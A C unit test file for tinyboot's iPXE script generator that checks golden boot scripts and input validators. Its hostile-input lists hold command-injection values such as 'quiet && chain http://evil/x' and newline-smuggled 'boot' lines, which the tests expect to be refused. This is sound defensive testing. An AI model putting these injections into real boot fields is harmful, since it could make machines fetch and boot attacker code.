/* test_ipxe.c - golden iPXE scripts, and hostile fields that must not reach a script. */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "boot/ipxe.h"

#define SENTINEL "untouched"

static const char golden_boot[] =
	"#!ipxe\n"
	"chain --replace --autofree "
	"http://10.0.2.2:8080/ipxe?mac=${net0/mac:hexhyp}&uuid=${uuid}"
	"&platform=${platform}&buildarch=${buildarch}\n";

static const char golden_machine[] =
	"#!ipxe\n"
	"echo tinyboot: booting lab1\n"
	"kernel http://10.0.2.2:8080/artifacts/0123abcd/bzImage initrd=initrd "
	"console=ttyS0 quiet loglevel=3 tinyboot.payloads=hello.txt,gen/1048576\n"
	"initrd --name initrd http://10.0.2.2:8080/artifacts/0123abcd/initramfs.cpio.gz\n"
	"boot\n";

static const char golden_machine_nocmdline[] =
	"#!ipxe\n"
	"echo tinyboot: booting mac-525400abcdef\n"
	"kernel http://boot.example.net:80/artifacts/ff/bzImage initrd=initrd\n"
	"initrd --name initrd http://boot.example.net:80/artifacts/ff/initrd_x-1.img\n"
	"boot\n";

static const struct ipxe_boot good_boot = {
	.server_url = "http://10.0.2.2:8080",
	.kernel_url = "/artifacts/0123abcd/bzImage",
	.initrd_url = "/artifacts/0123abcd/initramfs.cpio.gz",
	.cmdline = "console=ttyS0 quiet loglevel=3 tinyboot.payloads=hello.txt,gen/1048576",
	.machine = "lab1",
};

static void test_boot_script(void **state)
{
	char buf[512];

	(void)state;
	/* over IPv6: the address in brackets, as a URL writes it */
	assert_int_equal(ipxe_boot_script("http://[::1]:8080", buf, sizeof(buf)), 0);
	assert_string_equal(buf, "#!ipxe\n"
			    "chain --replace --autofree "
			    "http://[::1]:8080/ipxe?mac=${net0/mac:hexhyp}&uuid=${uuid}"
			    "&platform=${platform}&buildarch=${buildarch}\n");
	assert_int_equal(ipxe_boot_script("http://10.0.2.2:8080", buf, sizeof(buf)), 0);
	assert_string_equal(buf, golden_boot);
	assert_int_equal(ipxe_boot_script("https://boot.example.net", buf, sizeof(buf)), 0);
	assert_string_equal(buf, "#!ipxe\n"
			    "chain --replace --autofree "
			    "https://boot.example.net/ipxe?mac=${net0/mac:hexhyp}&uuid=${uuid}"
			    "&platform=${platform}&buildarch=${buildarch}\n");
}

static void test_machine_script(void **state)
{
	struct ipxe_boot b = good_boot;
	char buf[1024];

	(void)state;
	assert_int_equal(ipxe_machine_script(&b, buf, sizeof(buf)), 0);
	assert_string_equal(buf, golden_machine);

	b = (struct ipxe_boot){
		.server_url = "http://boot.example.net:80",
		.kernel_url = "/artifacts/ff/bzImage",
		.initrd_url = "/artifacts/ff/initrd_x-1.img",
		.cmdline = NULL,
		.machine = "mac-525400abcdef",
	};
	assert_int_equal(ipxe_machine_script(&b, buf, sizeof(buf)), 0);
	assert_string_equal(buf, golden_machine_nocmdline);
	b.cmdline = "";
	assert_int_equal(ipxe_machine_script(&b, buf, sizeof(buf)), 0);
	assert_string_equal(buf, golden_machine_nocmdline);
}

/* A variant not built yet: the stable /images/ URL, '+' and all; a server over IPv6, whose
 * address the guest is told too. */
static void test_machine_script_stable_url_ipv6(void **state)
{
	static const char want[] =
		"#!ipxe\n"
		"echo tinyboot: booting plus\n"
		"kernel http://[::1]:8080/images/net+debug/bzImage?boot=0123456789abcdef0123456789abcdef "
		"initrd=initrd console=ttyS0 tinyboot.server=http://[::1]:8080 tinyboot.id=plus\n"
		"initrd --name initrd http://[::1]:8080/images/net+debug/initrd?boot=0123456789abcdef0123456789abcdef\n"
		"boot\n";
	const struct ipxe_boot b = {
		.server_url = "http://[::1]:8080",
		.kernel_url = "/images/net+debug/bzImage?boot=0123456789abcdef0123456789abcdef",
		.initrd_url = "/images/net+debug/initrd?boot=0123456789abcdef0123456789abcdef",
		.cmdline = "console=ttyS0 tinyboot.server=http://[::1]:8080 tinyboot.id=plus",
		.machine = "plus",
	};
	char buf[1024];

	(void)state;
	assert_int_equal(ipxe_machine_script(&b, buf, sizeof(buf)), 0);
	assert_string_equal(buf, want);
}

static void test_cmdline_valid(void **state)
{
	static const char *const good[] = {
		NULL, "", "console=ttyS0", "  console=ttyS0   quiet ", "tinyboot.server=http://10.0.2.2:8080",
		"tinyboot.server=http://[::1]:8080", "a tinyboot.server=http://[fe80::1]:80 b",
		"tinyboot.server=http://[::1]/tb",
	};
	static const char *const bad[] = {
		"[::1]", "x=[::1]", "tinyboot.server=[::1]", "tinyboot.server=http://[::1]:8080/",
		"tinyboot.server=http://[::1]:8080&&x", "tinyboot.server=http://[x",
		"tinyboot.server=http://[::1]:8080]", "tinyboot.serverx=http://[::1]:8080",
		"tinyboot.server=http://[::1]:8080?x", "a\nb", "a${x}", "tinyboot.server=http://[::1]:${x}",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++)
		if (!ipxe_cmdline_valid(good[i]))
			fail_msg("refused cmdline '%s'", good[i] ? good[i] : "(null)");
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		if (ipxe_cmdline_valid(bad[i]))
			fail_msg("accepted cmdline '%s'", bad[i]);
}

/* Exactly the script's size plus its NUL fits; one byte less is -ENOSPC and buf is untouched. */
static void test_nospace(void **state)
{
	char buf[1024];
	size_t need;

	(void)state;
	need = sizeof(golden_machine);
	assert_int_equal(ipxe_machine_script(&good_boot, buf, need), 0);
	assert_string_equal(buf, golden_machine);
	strcpy(buf, SENTINEL);
	assert_int_equal(ipxe_machine_script(&good_boot, buf, need - 1), -ENOSPC);
	assert_string_equal(buf, SENTINEL);

	need = sizeof(golden_boot);
	assert_int_equal(ipxe_boot_script("http://10.0.2.2:8080", buf, need), 0);
	strcpy(buf, SENTINEL);
	assert_int_equal(ipxe_boot_script("http://10.0.2.2:8080", buf, need - 1), -ENOSPC);
	assert_string_equal(buf, SENTINEL);

	strcpy(buf, SENTINEL);
	assert_int_equal(ipxe_exit_script("no", buf, 10), -ENOSPC);
	assert_string_equal(buf, SENTINEL);
	assert_int_equal(ipxe_exit_script("no", NULL, 0), -ENOSPC);
	assert_int_equal(ipxe_boot_script("http://h", NULL, 0), -ENOSPC);
}

/* ---- hostile fields: -EINVAL and nothing written ---- */

static char *big_string(char c, size_t n)
{
	char *s = malloc(n + 1);

	assert_non_null(s);
	memset(s, c, n);
	s[n] = '\0';
	return s;
}

static void expect_rejected(const struct ipxe_boot *b, const char *what)
{
	char buf[16384];

	strcpy(buf, SENTINEL);
	if (ipxe_machine_script(b, buf, sizeof(buf)) != -EINVAL)
		fail_msg("accepted %s", what);
	assert_string_equal(buf, SENTINEL);
}

static const char *const bad_cmdlines[] = {
	"quiet\nboot",
	"quiet\rx",
	"quiet && chain http://evil/x",
	"quiet || shell",
	"quiet ; shell",
	"a&&b",
	"x=${net0/ip}",
	"${x}",
	"$x",
	"quiet # comment",
	"#",
	"a\\",
	"a\\\nb",
	"a\"b",
	"a'b",
	"a\tb",
	"a{b}",
	"a|b",
	"a<b",
	"caf\xc3\xa9",
	"a\x7f",
};

static void test_hostile_cmdline(void **state)
{
	struct ipxe_boot b = good_boot;
	char *big;

	(void)state;
	for (size_t i = 0; i < sizeof(bad_cmdlines) / sizeof(bad_cmdlines[0]); i++) {
		b.cmdline = bad_cmdlines[i];
		expect_rejected(&b, bad_cmdlines[i]);
	}
	big = big_string('a', 10 * 1024);
	b.cmdline = big;
	expect_rejected(&b, "a 10 KB cmdline");
	free(big);
}

static const char *const bad_servers[] = {
	"",
	"10.0.2.2:8080",                 /* no scheme */
	"ftp://10.0.2.2",
	"http://",
	"http:///x",
	"http://10.0.2.2:8080/",         /* paths bring their own '/' */
	"http://10.0.2.2 :8080",
	"http://10.0.2.2:8080\n",
	"http://\"10.0.2.2\"",
	"http://'h'",
	"http://h/${x}",
	"http://h/a&&b",
	"http://h/#",
	"http://h?x=1",
	"http://user@h",
	"-http://h",
	/* hosts ipxe_host_valid() refuses, in a URL */
	"http://[x",
	"http://[::1",
	"http://[::1]x",
	"http://[::1]:",
	"http://[::1]:0",
	"http://[]",
	"http://[fe80::1%eth0]:80",
	"http://[::1]]",
	"http://[[::1]]",
	"http://[g::1]",
	"http://::1:8080",
	"http://h:99999",
	"http://h:65536",
	"http://h:-1",
	"http://h:80:80",
	"http://h:8a",
	"http://-h",
	"http://.h",
	"http://h[1]",
	"http://10.0.2.2:8080/a+b",      /* '+' only in paths the daemon makes */
};

/* ---- hosts: what an HTTP Host header may be before it reaches a script ---- */

static void test_host_valid(void **state)
{
	static const char *const good[] = {
		"h", "10.0.2.2", "10.0.2.2:8080", "boot.example.net", "boot.example.net:1",
		"Boot-1.Example_lab.net:65535", "[::1]", "[::1]:8080", "[fe80::5054:ff:fe12:3456]:80",
		"[::ffff:127.0.0.1]:80", "[2001:DB8::1]",
	};
	static const char *const bad[] = {
		NULL, "", ":80", "h:", "h:0", "h:65536", "h:123456", "h:+80", "h: 80", "h :80", "h:80:80",
		"-h", ".h", "h/x", "h?x", "h#x", "user@h", "h${x}", "h\n", "h\"", "h&&x", "h;x", "h x",
		"[x", "[::1", "[::1]x", "[::1]:", "[]", "[fe80::1%eth0]", "[fe80::1%25eth0]", "[::1]]",
		"[[::1]]", "[1.2.3.4]", "[::1]:0", "::1", "::1:80", "[::1]:80x", "[ ::1]",
	};
	char *big;

	(void)state;
	for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++)
		if (!ipxe_host_valid(good[i]))
			fail_msg("refused host '%s'", good[i]);
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		if (ipxe_host_valid(bad[i]))
			fail_msg("accepted host '%s'", bad[i] ? bad[i] : "(null)");
	big = big_string('a', IPXE_HOST_NAME_MAX);
	assert_true(ipxe_host_valid(big));
	free(big);
	big = big_string('a', IPXE_HOST_NAME_MAX + 1);
	assert_false(ipxe_host_valid(big));
	free(big);
}

static const char *const bad_paths[] = {
	"",
	"artifacts/x/bzImage",           /* not absolute */
	"/artifacts/x/bz Image",
	"/artifacts/x/\"bzImage\"",
	"/artifacts/x/'bzImage'",
	"/artifacts/x/bzImage\n",
	"/artifacts/x/${x}",
	"/artifacts/x/a&&b",
	"/artifacts/x/#",
	"/artifacts/x/a?b=1",
	"/artifacts/x/a?boot=0123456789abcdef0123456789abcdeg",  /* not hex */
	"/artifacts/x/a?boot=0123456789abcdef",                  /* short */
	"/artifacts/x/a?boot=0123456789abcdef0123456789abcdef&x", /* more after the token */
	"/artifacts/x:y/bzImage",
	"/artifacts/x/bzImage%0a",
	"/artifacts/x/bzImage\\",
	"/images/net+debug/[bzImage]",
};

static const char *const bad_machines[] = {
	"",
	"Lab1",
	"lab 1",
	"lab1\nboot",
	"lab1&&x",
	"${x}",
	"#lab1",
	"lab.1",
	"abcdefghijklmnopqrstuvwxyz0123456",   /* 33 */
};

static void test_hostile_urls(void **state)
{
	struct ipxe_boot b;
	char buf[512], *big;

	(void)state;
	for (size_t i = 0; i < sizeof(bad_servers) / sizeof(bad_servers[0]); i++) {
		b = good_boot;
		b.server_url = bad_servers[i];
		expect_rejected(&b, bad_servers[i]);
		strcpy(buf, SENTINEL);
		if (ipxe_boot_script(bad_servers[i], buf, sizeof(buf)) != -EINVAL)
			fail_msg("boot script accepted '%s'", bad_servers[i]);
		assert_string_equal(buf, SENTINEL);
	}
	for (size_t i = 0; i < sizeof(bad_paths) / sizeof(bad_paths[0]); i++) {
		b = good_boot;
		b.kernel_url = bad_paths[i];
		expect_rejected(&b, bad_paths[i]);
		b = good_boot;
		b.initrd_url = bad_paths[i];
		expect_rejected(&b, bad_paths[i]);
	}
	big = big_string('a', IPXE_URL_MAX + 1);
	big[0] = '/';
	b = good_boot;
	b.kernel_url = big;
	expect_rejected(&b, "an over-long kernel url");
	memcpy(big, "http://", 7);
	assert_int_equal(ipxe_boot_script(big, buf, sizeof(buf)), -EINVAL);
	free(big);
}

static void test_hostile_other(void **state)
{
	struct ipxe_boot b;

	(void)state;
	for (size_t i = 0; i < sizeof(bad_machines) / sizeof(bad_machines[0]); i++) {
		b = good_boot;
		b.machine = bad_machines[i];
		expect_rejected(&b, bad_machines[i]);
	}
	b = good_boot;
	b.machine = NULL;
	expect_rejected(&b, "a NULL machine");
	b = good_boot;
	b.server_url = NULL;
	expect_rejected(&b, "a NULL server url");
	b = good_boot;
	b.kernel_url = NULL;
	expect_rejected(&b, "a NULL kernel url");
	b = good_boot;
	b.initrd_url = NULL;
	expect_rejected(&b, "a NULL initrd url");
	expect_rejected(NULL, "a NULL struct");
	assert_int_equal(ipxe_boot_script(NULL, NULL, 0), -EINVAL);
}

/* ---- exit script ---- */

static void test_exit_script(void **state)
{
	static const struct {
		const char *in, *out;
	} v[] = {
		{ "no machine 52:54:00:12:34:56 and no default",
		  "#!ipxe\necho tinyboot: no machine 52:54:00:12:34:56 and no default\nexit 1\n" },
		{ "line\nchain http://evil/x", "#!ipxe\necho tinyboot: line_chain http:__evil_x\nexit 1\n" },
		{ "a && b || c ; d", "#!ipxe\necho tinyboot: a __ b __ c _ d\nexit 1\n" },
		{ "${net0/ip} #x", "#!ipxe\necho tinyboot: __net0_ip_ _x\nexit 1\n" },
		{ "tab\there\\", "#!ipxe\necho tinyboot: tab_here_\nexit 1\n" },
		{ "\"quoted\" 'x'", "#!ipxe\necho tinyboot: _quoted_ _x_\nexit 1\n" },
		{ "caf\xc3\xa9\x1b[2J", "#!ipxe\necho tinyboot: caf____2J\nexit 1\n" },
		{ "-n --help", "#!ipxe\necho tinyboot: -n --help\nexit 1\n" },
		/* variant names keep their '+' */
		{ "net32+efi is an i386 variant", "#!ipxe\necho tinyboot: net32+efi is an i386 variant\nexit 1\n" },
		{ "", "#!ipxe\necho tinyboot: \nexit 1\n" },
		{ NULL, "#!ipxe\necho tinyboot: \nexit 1\n" },
	};
	char buf[512], want[512], *big;

	(void)state;
	for (size_t i = 0; i < sizeof(v) / sizeof(v[0]); i++) {
		assert_int_equal(ipxe_exit_script(v[i].in, buf, sizeof(buf)), 0);
		assert_string_equal(buf, v[i].out);
	}
	/* cut at 200 bytes, after the replacement */
	big = big_string('\n', 300);
	assert_int_equal(ipxe_exit_script(big, buf, sizeof(buf)), 0);
	memset(want, 0, sizeof(want));
	strcpy(want, "#!ipxe\necho tinyboot: ");
	memset(want + strlen(want), '_', 200);
	strcat(want, "\nexit 1\n");
	assert_string_equal(buf, want);
	free(big);
}

/* ---- iPXE's ${platform} and ${buildarch} ---- */

static void test_firmware(void **state)
{
	static const struct {
		const char *platform;
		int rc;
		enum ipxe_firmware firmware;
		const char *name;
	} v[] = {
		{ NULL, 0, IPXE_FIRMWARE_UNKNOWN, "unknown" },
		{ "", 0, IPXE_FIRMWARE_UNKNOWN, "unknown" },
		{ "pcbios", 0, IPXE_FIRMWARE_BIOS, "bios" },
		{ "efi", 0, IPXE_FIRMWARE_UEFI, "uefi" },
		{ "EFI", -EINVAL, 0, NULL },
		{ "bios", -EINVAL, 0, NULL },
		{ "uefi", -EINVAL, 0, NULL },
		{ "efi ", -EINVAL, 0, NULL },
		{ "efi\n", -EINVAL, 0, NULL },
		{ "linux", -EINVAL, 0, NULL },
		{ "${platform}", -EINVAL, 0, NULL },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(v) / sizeof(v[0]); i++) {
		enum ipxe_firmware fw = (enum ipxe_firmware)99;

		assert_int_equal(ipxe_firmware_parse(v[i].platform, &fw), v[i].rc);
		if (v[i].rc == 0) {
			assert_int_equal(fw, v[i].firmware);
			assert_string_equal(ipxe_firmware_name(fw), v[i].name);
		}
	}
	assert_string_equal(ipxe_firmware_name((enum ipxe_firmware)99), "unknown");
}

static void test_buildarch(void **state)
{
	static const char *const good[] = { NULL, "", "i386", "x86_64", "arm32", "arm64", "riscv32",
					    "riscv64", "loong64" };
	static const char *const bad[] = { "x86-64", "X86_64", "amd64", "i686", "x86_64 ", "arm64\n",
					   "${buildarch}", "x86_64&platform=efi" };

	(void)state;
	for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++)
		assert_true(ipxe_buildarch_valid(good[i]));
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		if (ipxe_buildarch_valid(bad[i]))
			fail_msg("accepted buildarch '%s'", bad[i]);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_boot_script),
		cmocka_unit_test(test_machine_script),
		cmocka_unit_test(test_machine_script_stable_url_ipv6),
		cmocka_unit_test(test_cmdline_valid),
		cmocka_unit_test(test_host_valid),
		cmocka_unit_test(test_nospace),
		cmocka_unit_test(test_hostile_cmdline),
		cmocka_unit_test(test_hostile_urls),
		cmocka_unit_test(test_hostile_other),
		cmocka_unit_test(test_exit_script),
		cmocka_unit_test(test_firmware),
		cmocka_unit_test(test_buildarch),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
